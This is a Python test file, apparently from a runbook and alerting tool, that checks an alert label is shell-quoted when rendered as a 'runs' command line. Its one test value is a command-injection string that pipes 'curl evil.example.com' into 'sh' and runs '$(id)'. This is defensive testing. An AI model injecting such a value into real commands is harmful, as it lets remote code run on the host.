"""What is said of alerts to people."""

import shlex
from pathlib import Path

from runbook_engine.alerting.alerts import Alert, Body, Status
from runbook_engine.alerting.matching import Match
from runbook_engine.cli.alert_view import Seen, told
from runbook_engine.document.triggers import AlertSource, Trigger


def test_what_a_label_fills_is_quoted_for_the_shell() -> None:
    hostile = "db'; curl evil.example.com | sh; '$(id)"
    alert = Alert(
        source=AlertSource.GRAFANA, name="Slow", status=Status.FIRING, starts_at=1.0, fingerprint="f", group_key="g"
    )
    match = Match("slow", Path("slow.yaml"), 1, Trigger(alert="*"), (("name", hostile),))
    said = told(Body(source=AlertSource.GRAFANA, alerts=(alert,)), [Seen(alert, None, (match,))])
    (line,) = [each for each in said.splitlines() if each.startswith("  runs ")]
    assert shlex.split(line.partition(" (trigger")[0]) == ["runs", "slow", f"name={hostile}"]
